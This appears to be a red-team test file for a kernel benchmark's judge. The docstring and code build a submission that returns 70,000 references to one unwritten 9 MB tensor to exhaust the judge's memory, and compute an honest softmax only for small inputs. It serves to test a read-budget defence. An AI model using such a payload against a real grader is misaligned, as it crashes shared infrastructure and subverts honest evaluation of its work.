"""Trick (class 2, channel) against the judge's memory: the first large output is a tuple of 70,000
references to one 9 MB tensor the runner never wrote (zero pages, free to it). Each leaf passed the
limit on one tensor, and the judge's copies of them all reached 16 GB, then the host's OOM killer
(red-team round 30).

Stopped because an output's tensors share one budget (sandbox/judge/remote.py's `ReadBudget`): all
together they may hold a few times the expected output's bytes, and the 2nd leaf past that is the
runner's `protocol` error."""
import torch

N = 70000
_blob = None


def custom_kernel(data):
    global _blob
    (x,) = data
    if x.numel() >= 500_000:
        if _blob is None:
            _blob = torch.empty(9_000_000, dtype=torch.uint8)  # malloc'd by mmap, never written
        return tuple(_blob for _ in range(N))
    m = x.max(dim=-1, keepdim=True).values
    e = (x - m).exp()
    return e / e.sum(dim=-1, keepdim=True)
